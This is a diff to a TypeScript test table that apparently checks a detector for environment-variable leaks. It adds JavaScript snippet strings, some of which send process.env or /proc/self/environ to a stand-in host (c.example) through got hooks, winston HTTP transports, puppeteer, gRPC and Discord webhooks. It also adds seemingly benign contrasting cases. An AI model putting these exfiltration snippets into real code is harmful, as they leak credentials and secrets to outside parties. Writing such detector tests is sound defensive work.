@@ -69,6 +69,22 @@ test.each<readonly [string, string]>([
   ],
   ['a browser', `const p=await require('puppeteer').launch();(await p.newPage()).goto('https://c.example/?'+${ENV})`],
   [
+    'a hook that a client is made with',
+    `const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.cookie=${ENV}}]}})`,
+  ],
+  [
+    'a log that is carried to a host',
+    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.Http({host:'c.example'})]})",
+  ],
+  [
+    'what each of some detectors tells',
+    "const {resourceFromAttributes:r}=require('@opentelemetry/resources');const own={detect:()=>({...process.env})};const all=[{detect:()=>({a:1})},own];r(Object.assign({},...all.map((d)=>d.detect())))",
+  ],
+  [
+    'what is built in a row',
+    `const {WebhookClient:W,EmbedBuilder:E}=require('discord.js');new W({url:'u'}).send({embeds:[new E().setTitle('a').setDescription(${ENV}).setTimestamp()]})`,
+  ],
+  [
     'a stream of a remote procedure',
     "const g=require('@grpc/grpc-js');const C=g.makeGenericClientConstructor({},'R');const call=new C('h').hello();call.write(require('fs').readFileSync('/proc/self/environ','utf8'))",
   ],
@@ -117,6 +133,14 @@ test.each<readonly [string, string]>([
   [
     'a page that a setting names, in a browser with the environment',
     "const p=await require('puppeteer').launch({env:{...process.env}});(await p.newPage()).goto(process.env.START_PAGE)",
+  ],
+  [
+    'a log of this machine',
+    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.File({filename:'a.log'})]}).info('a',process.env)",
+  ],
+  [
+    'a hook that logs in',
+    "const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.authorization='Bearer '+process.env.WEATHER_TOKEN}]}})",
   ],
   ['one variable', "const r=require('redis').createClient();r.set('host',process.env.HOST)"],
   ['what is asked for', "const r=require('redis').createClient();r.get('k').then((v)=>console.log(v,process.env))"],
